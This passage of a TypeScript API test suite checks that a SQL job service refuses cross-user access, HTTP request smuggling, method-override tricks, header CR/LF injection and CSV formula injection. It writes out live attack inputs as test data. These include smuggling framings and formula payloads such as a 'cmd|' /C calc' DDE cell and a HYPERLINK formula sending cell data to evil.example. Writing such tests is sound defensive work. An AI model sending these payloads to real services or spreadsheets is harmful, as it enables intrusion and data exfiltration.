          for (const method of ['GET', 'DELETE']) {
            const mine = await raw(method, `/jobs/${doneId}${q}`, victim);
            if (mine.status !== 200) expectRefused(mine, `${method} ${q}`);
            else expect(mine.body).toMatchObject({ id: doneId, state: 'completed' });
            const theirs = await raw(method, `/jobs/${doneId}${q}`, attackers[0]![1]);
            expect(expectRefused(theirs, `attacker ${method} ${q}`)).toBe('JOB_NOT_FOUND');
          }
        }
      });
    });

    describe('header and method tricks (raw sockets)', () => {
      it('two Authorization headers: the first one counts (Node drops duplicates), so an attacker-first request is a 404', async () => {
        const [, mallory] = attackers[0]!;
        const attackerFirst = await raw('GET', `/jobs/${doneId}/result`, undefined, `Authorization: Bearer ${mallory}\r\nAuthorization: Bearer ${victim}\r\n`);
        expect(expectRefused(attackerFirst, 'attacker first')).toBe('JOB_NOT_FOUND');
        const victimFirst = await raw('GET', `/jobs/${doneId}/result`, undefined, `Authorization: Bearer ${victim}\r\nAuthorization: Bearer ${mallory}\r\n`);
        expect(victimFirst.status).toBe(200);
      });

      it('method override headers, smuggling framing and absolute-form targets do not cancel or reveal a job', async () => {
        const id = await submit(victim, { sql: 'select pg_sleep(1)' });
        const [, mallory] = attackers[0]!;
        // Owner GETs that try to become a DELETE: answered as GETs.
        for (const h of ['X-HTTP-Method-Override: DELETE\r\n', 'X-HTTP-Method: DELETE\r\n', 'X-Method-Override: DELETE\r\n']) {
          const res = await raw('GET', `/jobs/${id}`, victim, h);
          expect(res.status, h).toBe(200);
          expect(['queued', 'running', 'completed']).toContain(res.body.state);
        }
        expect((await raw('GET', `/jobs/${id}?_method=DELETE`, victim)).status).toBe(200);
        // Owner DELETEs the HTTP parser must refuse before routing: the job is not cancelled.
        const framing = [
          `Content-Length: 5\r\nTransfer-Encoding: chunked\r\n`,
          `Content-Length: 1\r\nContent-Length: 2\r\n`,
          `Transfer-Encoding: chunked\r\n`,
        ];
        for (const h of framing) {
          const res = await raw('DELETE', `/jobs/${id}`, victim, h, h.startsWith('Transfer') ? 'zz\r\nxx\r\n0\r\n\r\n' : '0\r\n\r\n');
          expectRefused(res, h);
        }
        // Someone else, whatever the request line looks like.
        for (const target of [`http://127.0.0.1/jobs/${id}`, `http://evil.example/jobs/${id}`, `//jobs/${id}`, `/jobs//${id}`, `/jobs/${id}/`, `/JOBS/${id}`, `/jobs/./${id}`, `/x/../jobs/${id}`]) {
          for (const method of ['GET', 'DELETE']) {
            const res = await raw(method, target, mallory);
            expectRefused(res, `${method} ${target}`);
          }
        }
        for (const method of ['PUT', 'PATCH', 'POST', 'OPTIONS', 'TRACE', 'PROPFIND']) {
          expectRefused(await raw(method, `/jobs/${id}`, victim, 'Content-Length: 0\r\n'), method);
        }
        expect((await waitDone(id)).body.state, 'nothing above cancelled the job').toBe('completed');
      });

      it('a header line with CR/LF injection or a NUL byte → 400, the job untouched', async () => {
        for (const extra of [`X-A: a\rAuthorization: Bearer x\r\n`, `X-A: a\u0000b\r\n`, `X-A: a\nDELETE /jobs/${doneId} HTTP/1.1\r\n`]) {
          const res = await raw('GET', `/jobs/${doneId}`, victim, extra);
          expect(res.status, JSON.stringify(extra)).toBeGreaterThanOrEqual(400);
          expect(res.status).toBeLessThan(500);
          if (typeof res.body === 'object' && res.body !== null && 'error' in res.body) expectRefused(res, JSON.stringify(extra));
        }
        expect((await call('GET', `/jobs/${doneId}/result`, victim)).text).toBe(doneResult.text);
      });
    });

    describe('CSV result over HTTP', () => {
      it('neutralises formula cells from the database and from column aliases; json keeps the values', async () => {
        const id = await submit(csvToken, { sql: 'select id, name as "=cmd|\' /C calc\'!A0" from customers order by id', method: 'execute' });
        expect((await waitDone(id, csvToken)).body.state).toBe('completed');
        const csv = await call('GET', `/jobs/${id}/result?format=csv`, csvToken);
        expect(csv.status, csv.text).toBe(200);
        expect(csv.contentType).toContain('text/csv');
        expect(csv.text).toBe(
          [
            `id,'=cmd|' /C calc'!A0`,
            `301,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
            `302,'+1+cmd|' /C calc'!A0`,
            `303,'-2+3`,
            `304,"'@SUM(1,2)"`,
            `305,'\t=1+1`,
            `306,"plain, ""quoted"""`,
            '',
          ].join('\r\n'),
        );
        const json = await call('GET', `/jobs/${id}/result`, csvToken);
        expect(json.body.rows.map((r: Record<string, unknown>) => Object.values(r)[1])).toEqual([
          '=HYPERLINK("http://evil.example/?"&A1,"click")',
          "+1+cmd|' /C calc'!A0",
          '-2+3',
          '@SUM(1,2)',
          '\t=1+1',
          'plain, "quoted"',
        ]);
      });
    });
  });
}

suite('in-process', () => ({}));
describeIfRedis('queue mode', () => {
  suite('redis', () => ({ redis: REDIS_URL, prefix: `test-${randomUUID()}` }));
});
